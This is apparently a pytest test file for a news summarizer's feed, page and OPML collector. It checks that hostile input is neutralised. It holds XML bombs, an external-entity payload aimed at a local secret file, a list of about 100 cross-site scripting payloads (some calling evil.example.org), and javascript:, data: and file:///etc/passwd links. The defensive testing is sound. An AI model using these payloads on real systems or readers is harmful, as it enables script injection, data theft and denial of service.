"""Feeds, pages and lists of feeds, good and hostile, from a server on this machine to documents."""

from __future__ import annotations

import html
import json
import random
import re
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from site_on_loopback import Answer, Site

from summarizer.cli import main
from summarizer.config import FetchSettings, SourceSettings
from summarizer.errors import SourceError
from summarizer.sources import collect as collecting
from summarizer.sources import files
from summarizer.sources.collect import Collected, collect, read_opml
from summarizer.sources.feeds import feed_fields
from summarizer.sources.fetch import MemoryCache

NOW = datetime(2026, 5, 6, 12, tzinfo=UTC)
SENTENCES = (
    "Norvian troops crossed the Tamer river at dawn, the defence ministry said on Wednesday.",
    "Governor Ilse Maran said four people had died in Oskel and nineteen were wounded there.",
    "The talks in Lindhaven ended without an agreement after three hours, officials reported.",
)
ARTICLE = "\n".join(f"{sentence} Report {number}." for number in range(5) for sentence in SENTENCES)


@pytest.fixture
def site() -> Iterator[Site]:
    with Site() as running:
        yield running


def rss(*items: str, title: str = "Tamer Post") -> Answer:
    text = f'<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>{title}</title>{"".join(items)}</channel></rss>'
    return Answer(text.encode(), headers={"Content-Type": "application/rss+xml"})


def item(number: int = 1, date: str = "Wed, 06 May 2026 08:00:00 GMT", link: str = "", **fields: str) -> str:
    tags = {
        "title": f"Headline {number}",
        "link": link or f"/{number}",
        "pubDate": date,
        "guid": f"id-{number}",
    } | fields
    return f"<item>{''.join(f'<{name}>{text}</{name}>' for name, text in tags.items() if text)}</item>"


def full(number: int = 1, text: str = ARTICLE, **fields: str) -> str:
    paragraphs = "".join(f"<p>{line}</p>" for line in text.split("\n"))
    return item(number, **{"content:encoded": f"<![CDATA[{paragraphs}]]>", **fields})


def page(text: str = ARTICLE, head: str = "<title>Oskel falls</title>") -> Answer:
    paragraphs = "".join(f"<p>{line}</p>" for line in text.split("\n"))
    return Answer(
        f"<html><head>{head}</head><body><article><h1>Oskel falls</h1>{paragraphs}</article></body></html>".encode()
    )


def read(*sources: dict[str, Any], cache: MemoryCache | None = None, **changes: Any) -> Collected:
    settings = FetchSettings(**{"allow_private": True, "pause": 0, "backoff": 0, "robots": False, **changes})
    return collect(
        [SourceSettings(**source) for source in sources], settings, cache=cache or MemoryCache(), now=NOW
    )


def feed(site: Site, path: str = "/feed", **fields: Any) -> dict[str, Any]:
    return {"kind": "feed", "at": f"{site.url}{path}", **fields}


# --- what feeds, pages and lists give


def test_items_with_their_whole_text_are_taken_as_they_are(site: Site) -> None:
    site.pages["/feed"] = rss(full(1), full(2, text=ARTICLE.replace("four", "five")))
    found = read(feed(site))
    assert [d.title for d in found.documents] == ["Headline 1", "Headline 2"]
    assert found.documents[0].text == ARTICLE
    first = found.documents[0]
    assert (first.source, first.language, first.url) == ("Tamer Post", "en", f"{site.url}/1")
    assert first.published == datetime(2026, 5, 6, 8, tzinfo=UTC)
    assert site.paths() == ["/feed"]
    assert (found.skipped, found.notes) == ((), ())
    report = found.reports[0]
    assert (report.items, report.documents, report.newest, report.why) == (2, 2, first.published, "")


def test_the_page_of_an_item_is_read_where_the_feed_has_a_teaser(site: Site) -> None:
    site.pages |= {
        "/feed": rss(
            item(1, description=SENTENCES[0]), full(2, text=ARTICLE + "\nContinue reading at the Tamer Post")
        ),
        "/1": page(),
        "/2": page(),
    }
    found = read(feed(site, name="Desk name"))
    assert [d.text.count("Ilse Maran") for d in found.documents] == [5, 5]
    assert {d.source for d in found.documents} == {"Desk name"}
    assert sorted(site.paths()) == ["/1", "/2", "/feed"]


def test_a_page_that_cannot_be_read_leaves_the_feeds_own_text(site: Site) -> None:
    site.pages["/feed"] = rss(item(1, description=SENTENCES[0]), item(2), item(3))
    found = read(feed(site))
    assert [d.text for d in found.documents] == [SENTENCES[0]]
    assert found.notes == ("Tamer Post: of 1 items only the feed's own text was read: answers 404 Not Found",)
    assert [(s.where, s.why) for s in found.skipped] == [
        ("Tamer Post", "2 of 3 items: answers 404 Not Found")
    ]


@pytest.mark.parametrize(
    ("date", "expected"),
    [
        ("Wed, 06 May 2026 08:00:00 EST", datetime(2026, 5, 6, 13, tzinfo=UTC)),
        ("Wed, 06 May 2026 08:00:00 +0300", datetime(2026, 5, 6, 5, tzinfo=UTC)),
        ("2026-05-06T08:00:00Z", datetime(2026, 5, 6, 8, tzinfo=UTC)),
        ("6 May 2026", datetime(2026, 5, 6, tzinfo=UTC)),
        ("yesterday", None),
        ("", None),
        ("Wed, 06 May 99999 08:00:00 GMT", None),
    ],
)
def test_dates_of_items(site: Site, date: str, expected: datetime | None) -> None:
    site.pages["/feed"] = rss(full(1, date=date))
    assert [d.published for d in read(feed(site)).documents] == [expected]


def test_an_item_without_a_date_has_that_of_its_page(site: Site) -> None:
    head = '<title>Oskel</title><meta property="article:published_time" content="2026-05-05T07:00:00Z">'
    site.pages |= {"/feed": rss(item(1, date="")), "/1": page(head=head)}
    published = read(feed(site)).documents[0].published
    assert published is not None
    assert published.date().isoformat() == "2026-05-05"


def test_atom_with_relative_links_and_two_dates(site: Site) -> None:
    entry = f"<entry><id>x</id><title>T</title><link href='a/1'/><published>2026-05-01T00:00:00Z</published><updated>2026-05-06T09:00:00Z</updated><content type='text'>{ARTICLE}</content></entry>"
    site.pages["/news/feed"] = Answer(
        f'<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>{entry}</feed>'.encode()
    )
    document = read(feed(site, "/news/feed")).documents[0]
    assert document.url == f"{site.url}/news/a/1"
    assert document.published == datetime(2026, 5, 6, 9, tzinfo=UTC)


def test_old_items_and_those_beyond_the_limit_are_not_asked_for_and_this_is_said(site: Site) -> None:
    dates = [f"{day:02} Apr 2026 08:00:00 GMT" for day in range(15, 31)]
    site.pages |= {"/feed": rss(*(item(n, date=date) for n, date in enumerate(dates, 15)))} | {
        f"/{n}": page() for n in range(99)
    }
    found = read(feed(site, max_items=3, max_age_days=10))
    assert site.paths() == ["/feed", "/30", "/29", "/28"]
    assert found.notes == (
        "Tamer Post: 12 of 16 items are older than 10 days",
        "Tamer Post: the newest 3 of 4 items were read",
    )


def test_ids_stay_when_the_text_changes(site: Site) -> None:
    site.pages["/feed"] = [rss(full(1)), rss(full(2), full(1, text=ARTICLE.replace("four", "five")))]
    before, after = read(feed(site)).documents, read(feed(site)).documents
    assert before[0].id == after[1].id
    assert before[0].text != after[1].text


def test_every_kind_of_source_in_its_order(site: Site, tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "note.txt").write_text(ARTICLE)
    (tmp_path / "wire.jsonl").write_text(json.dumps({"id": "w1", "text": ARTICLE}) + "\n")
    site.pages |= {"/feed": rss(full(1)), "/page": page(), "/page2": page()}
    opml = f"<opml version='2.0'><body><outline text='Group'><outline text='Named' type='rss' xmlUrl='{site.url}/feed'/></outline></body></opml>"
    (tmp_path / "feeds.opml").write_text(opml)
    site.pages["/feeds.opml"] = Answer(opml.encode())
    found = read(
        {"kind": "folder", "at": str(tmp_path / "in"), "name": "Notes"},
        {"kind": "page", "at": f"{site.url}/page"},
        feed(site),
        {"kind": "jsonl", "at": str(tmp_path / "wire.jsonl")},
        {"kind": "opml", "at": str(tmp_path / "feeds.opml")},
        {"kind": "opml", "at": f"{site.url}/feeds.opml"},
    )
    assert found.skipped == ()
    assert [d.id for d in found.documents][0::3] == ["note", "w1"]
    assert [d.source for d in found.documents] == ["Notes", "127.0.0.1", "Tamer Post", "", "Named", "Named"]
    assert [r.kind for r in found.reports] == ["folder", "page", "feed", "jsonl", "feed", "feed"]


def test_a_source_that_fails_costs_only_itself(site: Site, tmp_path: Path) -> None:
    def drip(handler: BaseHTTPRequestHandler) -> None:
        handler.wfile.write(b"HTTP/1.1 200 OK\r\n\r\n<rss>")
        while True:
            handler.wfile.write(b" ")
            time.sleep(0.05)

    site.pages |= {
        "/good": rss(full(1)), "/drip": drip, "/html": page(), "/png": Answer(b"\x89PNG\r\n\x1a\n" + bytes(99)),
        "/empty": Answer(b""), "/none": rss(), "/error": Answer(status=500), "/huge": Answer(b"x" * 200_000),
    }  # fmt: skip
    names = ("drip", "html", "png", "empty", "none", "error", "huge", "missing", "good")
    start = time.monotonic()
    found = read(
        *(feed(site, f"/{name}", name=name) for name in names),
        {"kind": "page", "at": f"{site.url}/png", "name": "picture"},
        {"kind": "folder", "at": str(tmp_path / "gone"), "name": "folder"},
        {"kind": "opml", "at": str(tmp_path / "gone.opml"), "name": "list"},
        seconds=2,
        max_bytes=100_000,
        per_host=20,
    )
    assert time.monotonic() - start < 30
    assert [d.source for d in found.documents] == ["good"]
    why = {s.where: s.why for s in found.skipped}
    assert len(why) == len(found.skipped) == 11
    for name, part in {
        "drip": "longer than 2 seconds", "html": "a web page, not a feed", "png": "not a feed", "empty": "not a feed",
        "none": "no item", "error": "500", "huge": "larger than 0.1 MB", "missing": "404", "picture": "binary",
        str(tmp_path / "gone"): "No such file", "list": "No such file",
    }.items():  # fmt: skip
        assert part in why[name]


def test_a_source_that_takes_too_long_keeps_what_was_read(site: Site) -> None:
    def slow(handler: BaseHTTPRequestHandler) -> None:
        time.sleep(1.5)
        handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")

    site.pages |= {"/feed": rss(full(1), *(item(n) for n in range(2, 9)))} | {
        f"/{n}": slow for n in range(2, 9)
    }
    found = read(feed(site), source_seconds=2)
    assert [d.title for d in found.documents] == ["Headline 1"]
    assert "Tamer Post: took longer than 2 seconds; the rest of it was left" in [
        f"{s.where}: {s.why}" for s in found.skipped
    ]


def test_a_second_run_asks_only_for_what_changed(site: Site) -> None:
    cache = MemoryCache()
    site.pages |= {"/feed": rss(item(1)), "/1": page()}
    for name in ("/feed", "/1"):
        site.pages[name].headers["ETag"] = '"1"'  # type: ignore[union-attr]
    first, second = read(feed(site), cache=cache), read(feed(site), cache=cache)
    assert first == second
    assert [headers.get("if-none-match") for _, headers in site.asked] == [None, None, '"1"', '"1"']


# --- hostile feeds and pages


LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>"
)
LONG = "<!DOCTYPE x [<!ENTITY a '" + "ha" * 50_000 + "'>]>"


def test_xml_bombs_cost_only_themselves(site: Site, tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("hunter2")
    with Site() as inside:
        inside.pages["/"] = Answer(b"hunter2")
        outside = f"<!DOCTYPE x [<!ENTITY f SYSTEM 'file://{tmp_path}/secret.txt'><!ENTITY h SYSTEM '{inside.url}/'><!ENTITY % p SYSTEM '{inside.url}/'> %p;]>"
        bombs = {"laughs": (LAUGHS, "&a11;"), "long": (LONG, "&a;" * 50_000), "outside": (outside, "&f; &h;")}
        for name, (declared, used) in bombs.items():
            body = f'<rss version="2.0"><channel><title>T</title>{item(1, description=used + SENTENCES[0], link="javascript:x")}</channel></rss>'
            site.pages[f"/{name}"] = Answer(f'<?xml version="1.0"?>{declared}{body}'.encode())
            site.pages[f"/{name}.opml"] = Answer(
                f"{declared}<opml><body><outline text='{used[:9]}' xmlUrl='{site.url}/good'/></body></opml>".encode()
            )
        site.pages["/good"] = rss(full(1))
        start = time.monotonic()
        found = read(
            *(feed(site, f"/{name}", name=name) for name in bombs),
            *({"kind": "opml", "at": f"{site.url}/{name}.opml", "name": f"{name}.opml"} for name in bombs),
            feed(site, "/good"),
        )
        took = time.monotonic() - start
        assert inside.asked == []
    assert "hunter2" not in repr(found)
    assert found.documents[-1].source == "Tamer Post"
    longest = max(len(d.text) for d in found.documents)
    assert longest < 300_000  # what was sent; nothing unfolds
    assert {s.why for s in found.skipped if s.where.endswith(".opml")} == {
        "declares entities, which OPML needs not"
    }
    print(f"6 XML bombs: {took:.1f} s, longest text {longest} characters, nothing outside was read")


def test_a_tag_of_200_000_attributes_costs_only_itself(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(files.DEADLINES, "page", 4.0)
    monkeypatch.setattr(collecting, "FEED_DEADLINE", 4.0)
    attributes = " ".join(f"a{n}='1'" for n in range(200_000))
    site.pages |= {
        "/page": Answer(f"<html><body><p {attributes}>{ARTICLE}</p></body></html>".encode()),
        "/bomb": Answer(f"<rss version='2.0'><channel {attributes}>{full(1)}</channel></rss>".encode()),
        "/item": rss(item(1, link=f"{site.url}/page"), full(2)),
        "/list": Answer(f"<opml><outline {attributes} xmlUrl='{site.url}/good'/></opml>".encode()),
        "/good": rss(full(1), title="Good"),
    }
    start = time.monotonic()
    found = read(
        {"kind": "page", "at": f"{site.url}/page", "name": "page"},
        feed(site, "/bomb", name="bomb"),
        feed(site, "/item", name="item"),
        {"kind": "opml", "at": f"{site.url}/list", "name": "list"},
        feed(site, "/good", name="good"),
    )
    took = time.monotonic() - start
    read_of = [d.source for d in found.documents]
    assert "good" in read_of
    assert "item" in read_of
    assert all("longer than 4 seconds" in s.why for s in found.skipped)
    print(
        f"4 tags of 200,000 attributes: {took:.1f} s, {len(found.skipped)} given up, the other sources read"
    )


def test_pages_that_hang_the_parser_use_up_their_source_alone(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    site.pages["/warm"] = rss(full(1))
    assert read(feed(site, "/warm")).documents  # the child process has started
    monkeypatch.setitem(files.DEADLINES, "page", 1.0)
    monkeypatch.setattr(collecting, "PARSE_SECONDS", 0.9)
    attributes = " ".join(f"a{n}=1" for n in range(200_000))
    bomb = Answer(f"<html><body><p {attributes}>{ARTICLE}</p></body></html>".encode())
    site.pages |= {"/feed": rss(*(item(n) for n in range(1, 21)))} | {f"/{n}": bomb for n in range(1, 21)}
    found = read(feed(site), feed(site, "/warm"))
    assert [d.source for d in found.documents] == ["Tamer Post"]
    assert len(site.paths()) < 8
    assert "longer than 1 seconds to parse" in " ".join(s.why for s in found.skipped)


def mutated(data: bytes, chance: random.Random) -> bytes:
    """Bytes flipped, cut out, doubled, and pieces of markup put in between."""
    result = bytearray(data)
    for _ in range(chance.randint(1, 30)):
        at = chance.randrange(len(result) or 1)
        piece = chance.choice([b"<", b">", b"]]>", b"<![CDATA[", b"\x00", b"\xff\xfe", b"&#x0;", b"&#1114112;", b"<!--", b"</item>", b"<item>", b"'\"", b"<a href='", b"\xed\xa0\x80", b"&amp;lt;"])  # fmt: skip
        match chance.randrange(4):
            case 0:
                result[at : at + 1] = bytes([chance.randrange(256)])
            case 1:
                del result[at : at + chance.randint(1, 60)]
            case 2:
                result[at:at] = result[at : at + chance.randint(1, 200)]
            case _:
                result[at:at] = piece
    return bytes(result[: chance.randint(1, len(result))] if result and chance.random() < 0.1 else result)


def test_300_mutated_pages_and_feeds_crash_nothing(site: Site) -> None:
    chance = random.Random(5)
    good_feed, good_page = rss(full(1), item(2, description=SENTENCES[0])).body, page().body
    sources: list[dict[str, Any]] = []
    for number in range(300):
        kind, data = ("feed", good_feed) if number % 2 else ("page", good_page)
        site.pages[f"/m{number}"] = Answer(mutated(data, chance), headers={"Content-Type": "text/html"})
        sources.append({"kind": kind, "at": f"{site.url}/m{number}", "name": str(number)})
    found = read(*sources, per_host=16)
    answered = {r.name for r in found.reports if r.documents or r.why}
    died = [s for s in found.skipped if "died" in s.why or "longer than" in s.why]
    print(
        f"300 mutated pages and feeds: {len(found.documents)} documents, {len(found.skipped)} refused, {len(died)} crashes"
    )
    assert (len(answered), died) == (300, [])
    assert len(found.documents) > 150
    for document in found.documents:
        document.text.encode()
        document.title.encode()
        assert document.url == "" or document.url.startswith("http://")


INJECTIONS = [
    template.format(call)
    for call in ("alert(1)", "alert`1`", "fetch('//evil.example.org')", "eval(name)", "&#97;lert(1)")
    for template in (
        "<script>{}</script>", "<ScRiPt src=//evil.example.org>{}</sCrIpT>", "<img src=x onerror={}>", "<svg onload={}>",
        "<svg><script>{}</script></svg>", "<iframe src='javascript:{}'></iframe>", "<a href='javascript:{}'>x</a>",
        "<body onload={}>", "<math><mtext><img src=x onerror={}>", "<details open ontoggle={}>", "<style>@import '{}'</style>",
        "<object data='javascript:{}'></object>", "\"><script>{}</script>", "<input autofocus onfocus={}>",
        "<video><source onerror={}></video>", "<form action='javascript:{}'><button>x</button></form>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href='javascript:{}'>",
        "<table background='javascript:{}'>", "<!--><img src=x onerror={}>-->",
    )
]  # fmt: skip
LINKS = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "data:text/html,&lt;script>alert(1)&lt;/script>", "vbscript:x", "file:///etc/passwd", "//", "http://[", "javascript://%0aalert(1)", "blob:x", "\x01javascript:alert(1)".replace("\x01", "&#x1;"))  # fmt: skip
ACTIVE = re.compile(
    r"<\s*/?\s*(?:script|img|svg|iframe|a|body|math|details|style|object|input|video|form|meta|link|table)\b",
    re.I,
)


@pytest.mark.parametrize("escaped", [True, False])
def test_script_injections_come_out_as_plain_text(site: Site, escaped: bool) -> None:
    assert len(INJECTIONS) == 100

    def put(text: str) -> str:
        return html.escape(text) if escaped else f"<![CDATA[{text}]]>"

    items = [
        item(
            n,
            title=put(f"Headline {text}"),
            link=put(LINKS[n % len(LINKS)]) if n % 13 else "",
            description=put(f"{SENTENCES[1]} {text} {SENTENCES[0]}"),
        )
        for n, text in enumerate(INJECTIONS)
    ]
    site.pages["/feed"] = rss(*items, title=put("Post <script>alert(1)</script>"))
    found = read(feed(site, max_items=200))
    assert len(found.documents) == 100
    active = [d for d in found.documents if ACTIVE.search(f"{d.title} {d.text} {d.source}")]
    links = [d.url for d in found.documents if d.url and not d.url.startswith("http://127.0.0.1")]
    print(
        f"100 script injections ({'escaped' if escaped else 'CDATA'}): {len(active)} tags, {len(links)} strange links left"
    )
    assert (active, links) == ([], [])
    assert all("Headline" in d.title and SENTENCES[0] in d.text for d in found.documents)
    assert "" in {d.url for d in found.documents}


def test_links_of_any_other_kind_are_dropped(site: Site) -> None:
    site.pages["/feed"] = rss(
        *(full(n, link=html.escape(link)) for n, link in enumerate(LINKS) if "&#" not in link)
    )
    found = read(feed(site))
    assert len(found.documents) == len(LINKS) - 1
    assert {d.url for d in found.documents if not d.url.startswith("http://127.0.0.1")} == {""}


def test_a_feed_that_names_a_file_is_not_opened(tmp_path: Path) -> None:
    path = tmp_path / "feed.xml"
    path.write_bytes(rss(full(1)).body)
    with pytest.raises(SourceError, match="not a feed"):
        feed_fields(str(path).encode())


# --- the commands


def test_sources_check(site: Site, tmp_path: Path) -> None:
    site.pages |= {"/feed": rss(full(1, date=""), full(2)), "/gone": Answer(status=410)}
    config = tmp_path / "desk.yaml"
    fetch = {"allow_private": ["127.0.0.1/32"], "pause": 0}

    def check(*sources: dict[str, Any]) -> tuple[int, str]:
        config.write_text(yaml.safe_dump({"fetch": fetch, "sources": list(sources)}))
        done = CliRunner().invoke(main, ["sources", "check", "--config", str(config)])
        return done.exit_code, done.stdout

    assert check(feed(site, max_age_days=9999)) == (
        0,
        "ok      Tamer Post: 2 items, newest 2026-05-06 08:00 UTC\n",
    )
    gone = feed(site, "/gone", name="Old feed")
    assert check(feed(site, name="A"), gone)[0] == 3
    assert check(gone) == (1, "failed  Old feed: answers 410 Gone\n")
    (tmp_path / "inbox").mkdir()
    inbox = {"kind": "folder", "name": "Inbox", "at": "inbox"}
    assert check(inbox) == (0, "ok      Inbox: 0 items\n")
    assert check(inbox, gone)[0] == 3
    assert check()[0] == 2
    private = CliRunner().invoke(main, ["sources", "check", "--config", str(config)], env={})
    assert private.exit_code == 2


def test_sources_import(tmp_path: Path) -> None:
    path = tmp_path / "feeds.opml"
    path.write_text(
        "<opml version='1.0'><body><outline text='A &amp; B: <c>' xmlUrl='https://a.example.org/f'/>".replace(
            "<c>", "c"
        )
        + "<outline title='Ж' xmlurl='http://b.example.org/f'/><outline text='again' xmlUrl='https://a.example.org/f'/>"
        + "<outline text='x' xmlUrl='javascript:alert(1)'/><outline text='folder'/></body></opml>",
        encoding="utf-8",
    )
    done = CliRunner().invoke(main, ["sources", "import", str(path)])
    assert done.exit_code == 0
    assert yaml.safe_load(done.stdout) == {
        "sources": [
            {"kind": "feed", "name": "A & B: c", "at": "https://a.example.org/f"},
            {"kind": "feed", "name": "Ж", "at": "http://b.example.org/f"},
        ]
    }
    assert [feed.at for feed in read_opml(path)] == ["https://a.example.org/f", "http://b.example.org/f"]
    for bad in (b"", b"<html/>", b"<opml/>", b"\x00", b"<opml><body>"):
        path.write_bytes(bad)
        done = CliRunner().invoke(main, ["sources", "import", str(path)])
        assert done.exit_code == 1
        assert done.stderr.startswith("Error: ")
        assert done.stderr.count("\n") == 1
